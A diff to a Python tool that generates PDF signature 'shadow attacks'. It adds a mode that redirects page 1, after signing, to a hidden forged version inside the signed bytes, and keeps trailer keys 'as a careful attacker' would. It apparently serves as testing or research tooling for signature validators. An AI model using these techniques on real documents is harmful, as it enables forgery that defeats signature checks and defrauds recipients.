@@ -24,6 +24,8 @@ Shadow attacks (the document is prepared before it is signed, the attack comes a
   hideskip IN OUT          after signing a hideprep file: a new xref that re-lists the
                            signature revision's objects but whose /Prev skips the restoring
                            revision, so viewers show the forged page
+  hidepoint IN OUT         after signing a hideprep file: a new xref that points page 1's
+                           content at the hidden forged version inside the signed bytes
   objstmprep IN OUT        an update holding a forged page 1 (its /Contents "GIA MAO") in a new
                            object stream that no xref entry points at (hidden)
   objstmreveal IN OUT      after signing an objstmprep file: an xref stream that points page 1
@@ -98,12 +100,7 @@ def update(d, objs, frees=(), extra=b'', keep_dup=False):
     for num in frees:
         entries.append((num, 0, 1, b'f'))
     size = max([size] + [n + 1 for n, _, _, _ in entries])
-    # /Info and /ID kept as they were, as a careful attacker (and any PDF writer) does.
-    tr = re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]
-    for name, key in ((b'/Info', rb'/Info\s+\d+\s+\d+\s+R'), (b'/ID', rb'/ID\s*\[[^]]*\]')):
-        m = re.search(key, tr)
-        if m and (keep_dup or name not in extra):
-            extra = b' ' + m.group(0) + extra
+    extra = kept(d, extra, keep_dup)
     xref = len(out)
     out += b'xref\n'
     for num, off, gen, kind in sorted(entries):
@@ -111,6 +108,17 @@ def update(d, objs, frees=(), extra=b'', keep_dup=False):
     out += b'trailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n' % (
         size, root, prev, extra, xref)
     return bytes(out)
+
+
+def kept(d, extra=b'', keep_dup=False):
+    """`extra` trailer keys after /Info and /ID as the newest trailer has them (unless `extra`
+    sets them), as a careful attacker (and any PDF writer) keeps them."""
+    tr = re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]
+    for name, key in ((b'/Info', rb'/Info\s+\d+\s+\d+\s+R'), (b'/ID', rb'/ID\s*\[[^]]*\]')):
+        m = re.search(key, tr)
+        if m and (keep_dup or name not in extra):
+            extra = b' ' + m.group(0) + extra
+    return extra
 
 
 def section_at(d, off):
@@ -298,8 +306,16 @@ def main():
         _, hidden = section_at(d, restoring)
         out = bytearray(d)
         xref = len(out)
-        out += b'xref\n' + sig_lines + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n' \
-               b'startxref\n%d\n%%%%EOF\n' % (size, root, hidden, xref)
+        out += b'xref\n' + sig_lines + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\n' \
+               b'startxref\n%d\n%%%%EOF\n' % (size, root, hidden, kept(d), xref)
+    elif mode == 'hidepoint':
+        c = ref(last_obj(d, pages(d, root)[0]), b'Contents')
+        at = [m.start(1) for m in re.finditer(rb'(?:^|[\r\n])(%d 0 obj)' % c, d)
+              if d[m.end():m.end() + 400].find(FORGED) >= 0][0]
+        out = bytearray(d)
+        xref = len(out)
+        out += b'xref\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\n' \
+               b'startxref\n%d\n%%%%EOF\n' % (c, at, size, root, prev, kept(d), xref)
     elif mode == 'objstmprep':
         p1 = pages(d, root)[0]
         page = last_obj(d, p1)
@@ -317,8 +333,8 @@ def main():
                b'\nendstream\nendobj\n'
         xref = len(out)
         out += b'xref\n%d 2\n%010d 00000 n\r\n%010d 00000 n\r\n' % (stm, offs[stm], offs[content])
-        out += b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (
-            size + 2, root, prev, xref)
+        out += b'trailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n' % (
+            size + 2, root, prev, kept(d), xref)
     elif mode == 'objstmreveal':
         p1 = pages(d, root)[0]
         stm = int(re.findall(rb'(\d+) 0 obj\s*<< /Type /ObjStm', d)[-1])
@@ -327,7 +343,7 @@ def main():
         at = len(out)
         rows = struct.pack('>BIH', 2, stm, 0) + struct.pack('>BIH', 1, at, 0)
         out += b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1 %d 1] /Root %d 0 R ' \
-               b'/Prev %d /Length %d >>\nstream\n' % (me, me + 1, p1, me, root, prev, len(rows))
+               b'/Prev %d%s /Length %d >>\nstream\n' % (me, me + 1, p1, me, root, prev, kept(d), len(rows))
         out += rows + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % at
     elif mode == 'sneakynew':
         kind = sys.argv[4] if len(sys.argv) > 4 else 'ap'
